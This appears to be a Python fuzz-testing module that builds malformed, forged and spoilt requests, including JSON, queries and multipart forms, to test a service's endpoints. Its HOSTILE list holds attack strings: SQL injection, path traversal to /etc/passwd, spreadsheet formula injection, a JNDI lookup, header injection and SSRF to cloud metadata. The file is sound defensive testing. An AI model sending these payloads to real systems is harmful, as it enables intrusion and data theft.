"""Malformed calls for every door: forged, well signed with junk inside, and merely broken."""

import json
import random
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

#: What other parsers fell over: counts, lengths, signs, ways, markup, letters, times.
HOSTILE = (
    "",
    " ",
    "\0",
    "\x1b[2J",
    "0",
    "-1",
    "1e999",
    "9" * 5000,
    "９" * 500,
    "²",
    "NaN",
    "Infinity",
    "0x7f",
    "null",
    "true",
    "[]",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\0.jpg",
    "%00%2e%2e%2f",
    "CON",
    "gpj.\u202eexe",
    "=cmd|' /C calc'!A0",
    "@all",
    "<@all>",
    "[看](http://203.0.113.9/)",
    "<font color=red>x</font>",
    "{{7*7}}{% raise %}",
    "${jndi:ldap://203.0.113.9/a}",
    "\r\nSet-Cookie: a=b",
    "http://169.254.169.254/latest/meta-data",
    "http://127.1/",
    "file:///etc/passwd",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "]]>",
    "<xml><MsgType>event</MsgType></xml>",
    "0001-01-01T00:00:00",
    "9999-12-31T23:59:59-23:59",
    "2021-08-20T09:00:00+99:99",
    "报送 州1-7\n完成数：" + "9" * 400 + "个",
    "绑定 " + "K" * 300,
    "撤回 99999999999999999999999",
    "图1 " + "（" * 2000,
    "进度 " + "雪" * 3000,
    "\ufeff帮助",
    "\u200b\u200d\u2028\u2029",
    "😀" * 700,
    "e\u0301" * 1000,
)
_NUMBERS = (0, -1, 2**31, 2**63, -(2**63) - 1, 10**30, 10**400, 1e308, -0.0, 1.5)


@dataclass(frozen=True)
class Call:
    """One call as its bytes reach the service; *path* is decoded, or empty for a frame.

    *is_signed*: it proves to come from the platform; nothing may be kept of any other.
    """

    door: str
    method: str
    path: str
    query: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""
    is_signed: bool = False


class Junk:
    """What is no message, over and over, and the same for the same *seed*."""

    def __init__(self, seed: int) -> None:
        self.chance = random.Random(seed)
        self._count = 0

    def one_of(self, *choices: Any) -> Any:
        return self.chance.choice(choices)

    def number(self) -> str:
        """A number of a message that no other has."""
        self._count += 1
        return f"{self.chance.randrange(10**6)}{self._count:08}"

    def text(self) -> str:
        """Hostile words, or a run of any characters; now and then very long."""
        kind = self.chance.randrange(10)
        if kind < 7:
            return self.one_of(*HOSTILE)
        if kind == 7:
            return self.one_of("甲", "\t", "<", "[", "\\") * self.one_of(1, 10, 3000, 60_000)
        size = self.chance.randrange(40)
        return "".join(chr(self._letter()) for _ in range(size))

    def _letter(self) -> int:
        """Any character but halves of one, which no bytes hold."""
        found = self.chance.choice((self.chance.randrange(0x80), self.chance.randrange(0x2FFFF)))
        return 0x4E00 if 0xD800 <= found < 0xE000 else found

    def bytes(self) -> bytes:
        """Anything at all."""
        kind = self.chance.randrange(6)
        if kind == 0:
            return b""
        if kind == 1:
            return self.one_of(b"[", b"{", b'{"a":', b"<xml>", b"\xff", b"\0") * self.one_of(
                1, 100, 20_000
            )
        if kind == 2:
            return self.text().encode()
        return self.chance.randbytes(self.chance.randrange(300))

    def value(self, depth: int = 3) -> Any:
        """Any value of JSON, but rarely the one that was expected."""
        kind = self.chance.randrange(12)
        if kind < 5 or not depth:
            return self.text()
        if kind == 5:
            return self.one_of(*_NUMBERS)
        if kind == 6:
            return self.one_of(True, False, None)
        if kind == 7:
            nested: Any = 0
            for _ in range(self.one_of(3, 300, 900)):
                nested = [nested]
            return nested
        if kind == 8:
            return [self.value(depth - 1) for _ in range(self.chance.randrange(4))]
        return {self.text(): self.value(depth - 1) for _ in range(self.chance.randrange(4))}

    def spoilt(self, found: Any, share: float = 0.15) -> Any:
        """The same with some parts replaced, left out, doubled or under another name."""
        if self.chance.random() < share:
            return self.value()
        if isinstance(found, Mapping):
            kept = [each for each in found.items() if self.chance.random() > share / 3]
            return {
                (name if self.chance.random() > share / 5 else self.text()): self.spoilt(each)
                for name, each in kept
            }
        if isinstance(found, list):
            return [self.spoilt(each) for each in found for _ in range(self.one_of(1, 1, 1, 2))]
        return found

    def json(self, found: Any) -> bytes:
        """Spoilt JSON; now and then its bytes are spoilt as well."""
        raw = json.dumps(self.spoilt(found), ensure_ascii=self.one_of(True, False)).encode()
        return self.cut(raw) if self.chance.random() < 0.2 else raw

    def cut(self, raw: bytes) -> bytes:
        """The bytes with a piece replaced."""
        start = self.chance.randrange(len(raw) + 1)
        end = min(len(raw), start + self.chance.randrange(20))
        return raw[:start] + self.chance.randbytes(self.chance.randrange(6)) + raw[end:]

    def query(self, found: Mapping[str, str]) -> str:
        """Parameters that are spoilt, repeated, or no parameters at all."""
        if self.chance.random() < 0.1:
            return self.text().encode("unicode_escape").decode()[:2000].replace(" ", "+")
        pairs = list(found.items())
        if pairs and self.chance.random() < 0.3:
            pairs.append(self.chance.choice(pairs))
        return urlencode(
            [(name, self.text() if self.chance.random() < 0.3 else each) for name, each in pairs]
        )

    def step(self) -> str:
        """One step of a path."""
        return quote(self.text()[:400], safe="")

    def form(self, fields: Mapping[str, str], files: Sequence[str] = ()) -> tuple[str, bytes]:
        """A form as a browser sends it, spoilt; its content type and its body."""
        edge = "dajuan" + self.number()
        lines = list[bytes]()
        for name, said in fields.items():
            shown = self.text() if self.chance.random() < 0.2 else said
            head = f'--{edge}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
            lines.append(head.encode() + shown.encode() + b"\r\n")
        for name in files:
            file = self.text()[:300].replace('"', "").replace("\r", "").replace("\n", "")
            head = (
                f'--{edge}\r\nContent-Disposition: form-data; name="{name}"; filename="{file}"\r\n'
                f"Content-Type: {self.one_of('image/jpeg', 'text/html', '')}\r\n\r\n"
            )
            lines.append(head.encode() + self.bytes()[:2000] + b"\r\n")
        raw = b"".join(lines) + f"--{edge}--\r\n".encode()
        raw = self.cut(raw) if self.chance.random() < 0.3 else raw
        kind = f"multipart/form-data; boundary={edge}"
        return (self.one_of(kind, kind, kind, "multipart/form-data", "text/plain"), raw)
